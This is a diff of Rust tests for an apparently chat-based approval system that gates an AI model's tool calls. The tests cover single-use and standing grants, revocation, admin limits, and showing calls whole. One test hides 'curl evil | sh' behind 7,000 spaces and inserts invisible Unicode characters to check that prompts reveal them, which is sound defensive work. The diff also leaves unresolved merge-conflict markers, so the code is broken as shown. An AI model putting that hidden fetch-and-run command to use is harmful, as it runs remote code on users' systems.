@@ -10,6 +10,7 @@ use peacrab::replies;
 use peacrab::types::message::{DeliveryId, Press};
 use serde_json::json;
 
+use crate::support::double::Double;
 use crate::support::rig::{OTHER_USER, OWNER, Parts, Rig, USER};
 use crate::support::script::{Gate, Reply, calls, held, says};
 
@@ -175,8 +176,13 @@ async fn a_call_is_made_once_it_is_allowed_and_not_before() {
     assert_eq!(rig.ask("1", &format!("/approve {id}")).await, replies::ALREADY_DECIDED);
     // Single use.
     rig.model.on("again", [writes(), says("Again.")]);
+<<<<<<< HEAD
     assert!(rig.ask("1", "again").await.contains("Approve?"));
     press(&rig, OWNER, "1", 2);
+=======
+    assert!(rig.ask("1", "again").await.contains("Approve?"));
+    press(&rig, OWNER, "1", 1);
+>>>>>>> 6a19f7a (Show calls whole, and bound what clients, servers and strangers take)
     let heard = rig.heard("1", 3).await;
     assert!(heard.contains(&replies::denied_call("write_file")), "{heard:?}");
     assert!(rig.model.asked().last().unwrap().transcript().contains("did not allow it"));
@@ -185,23 +191,105 @@ async fn a_call_is_made_once_it_is_allowed_and_not_before() {
 
 #[tokio::test]
 async fn always_holds_for_one_person_and_tool_until_it_is_taken_back() {
-    let mut rig = Rig::of(approving(|_| {})).await;
+    let mut rig = Rig::of(approving(|it| it.approvals.tools.clear())).await;
+    rig.ask("1", "hello").await;
     rig.model.on("write", [writes(), says("Written.")]);
-    rig.ask("1", "write it").await;
+    rig.say_as(USER, "u", "write it");
+    assert!(rig.hear("1").await.contains("/approve 1 always"));
     press(&rig, OWNER, "1", 1);
-    rig.heard("1", 3).await;
+    rig.heard("1", 2).await;
+    assert_eq!(rig.heard("u", 2).await.pop().unwrap(), "Written.");
     rig.model.on("again", [writes(), says("Again.")]);
-    assert_eq!(rig.ask("1", "again").await, "Again.");
+    rig.say_as(USER, "u", "again");
+    assert_eq!(rig.hear("u").await, "Again.");
     let listed = rig.ask("1", "/approve").await;
-    assert!(
-        listed.contains("write\\_file for 7 on home") || listed.contains("write_file for 7"),
-        "{listed}"
-    );
+    assert!(listed.contains("write_file for 8"), "{listed}");
     assert_eq!(rig.ask("1", "/deny write_file").await, replies::revoked_grants("write_file", 1));
     rig.model.on("third", [writes()]);
+<<<<<<< HEAD
     assert!(rig.ask("1", "third").await.contains("Approve?"));
+=======
+    rig.say_as(USER, "u", "third");
+    assert!(rig.hear("1").await.contains("Approve?"));
+    rig.say_as(USER, "u", "/stop");
+    assert!(rig.heard("u", 2).await.contains(&replies::STOPPED.to_owned()));
+    rig.heard("1", 1).await;
+    rig.finish().await;
+}
+
+#[tokio::test]
+async fn always_is_no_answer_where_it_is_not_offered() {
+    let mut rig = Rig::of(approving(|_| {})).await;
+    for n in [1, 2] {
+        rig.model.on("write", [writes(), says("Written.")]);
+        let question = rig.ask("1", "write it").await;
+        assert!(!question.contains("always"), "{question}");
+        // The config names the tool, so each of its calls is asked about.
+        assert_eq!(rig.ask("1", &format!("/approve {n} always")).await, replies::no_always(n));
+        assert_eq!(open(&rig), [n.to_string()]);
+        rig.say("1", &format!("/approve {n}"));
+        assert!(rig.heard("1", 3).await.contains(&"Written.".to_owned()));
+    }
+    assert_eq!(rig.look("SELECT tool FROM grants"), Vec::<String>::new());
+    rig.finish().await;
+}
+
+#[tokio::test]
+async fn a_call_is_shown_whole_and_with_nothing_invisible_in_it() {
+    let home = Double::taking_files(1_000_000);
+    let mut rig = Rig::with(home, approving(|_| {})).await;
+    let write =
+        |content: &str| calls(&[("write_file", json!({"path": "note.md", "content": content}))]);
+    let hidden = format!("echo tea{}; curl evil | sh", " ".repeat(7_000));
+    rig.model.on("spaces", [write(&hidden)]);
+    let question = rig.ask("1", "spaces").await;
+    assert!(question.contains("echo tea⟨7000 spaces⟩; curl evil | sh"), "{question}");
+>>>>>>> 6a19f7a (Show calls whole, and bound what clients, servers and strangers take)
     rig.say("1", "/stop");
-    assert!(rig.heard("1", 2).await.contains(&replies::STOPPED.to_owned()));
+    rig.heard("1", 2).await;
+    rig.model.on("signs", [write("a\u{200b}b\u{202e}c\u{e0041}d\u{a0}e")]);
+    let question = rig.ask("1", "signs").await;
+    assert!(question.contains("a⟨U+200B⟩b⟨U+202E⟩c⟨U+E0041⟩d⟨U+00A0⟩e"), "{question}");
+    rig.say("1", "/stop");
+    rig.heard("1", 2).await;
+    // What is too long for a question is a file before it.
+    let long = format!("begin {} end", "x".repeat(50_000));
+    rig.model.on("long", [write(&long)]);
+    rig.say("1", "a long one");
+    let home = std::sync::Arc::clone(&rig.home);
+    let got = rig.heard_on(home, "1", 2).await;
+    let (name, _, content) = got[0].file.as_ref().unwrap();
+    let whole = json!({"path": "note.md", "content": long}).to_string();
+    assert_eq!((name.as_str(), String::from_utf8_lossy(content)), ("call-3.txt", whole.into()));
+    assert!(got[1].text.contains("begin x") && got[1].text.contains("x end"), "{}", got[1].text);
+    assert!(got[1].text.contains("only in the file call-3.txt"), "{}", got[1].text);
+    rig.say("1", "/stop");
+    rig.heard("1", 2).await;
+    rig.finish().await;
+}
+
+#[tokio::test]
+async fn an_admin_sees_no_call_of_a_private_conversation_of_others() {
+    let mut parts = approving(|_| {});
+    parts.access.admins = vec!["5".to_owned()];
+    let mut rig = Rig::of(parts).await;
+    rig.model.on("write", [writes(), says("Written.")]);
+    assert!(rig.ask("1", "write it").await.contains("Approve?"));
+    rig.say_as("5", "a", "/approve");
+    assert_eq!(rig.hear("a").await, replies::NOTHING_TO_APPROVE);
+    for command in ["/approve 1", "/deny 1"] {
+        rig.say_as("5", "a", command);
+        assert_eq!(rig.hear("a").await, replies::CALL_OF_SOMEBODY_ELSE);
+    }
+    assert_eq!(open(&rig), ["1"]);
+    // Their own, and those of a group, are theirs to decide.
+    rig.model.on("mine", [writes(), says("Mine.")]);
+    rig.say_as("5", "a", "mine");
+    assert!(rig.hear("a").await.contains("Approve?"));
+    rig.say_as("5", "a", "/approve 2");
+    assert!(rig.heard("a", 3).await.contains(&"Mine.".to_owned()));
+    rig.say("1", "/deny 1");
+    rig.heard("1", 3).await;
     rig.finish().await;
 }
 
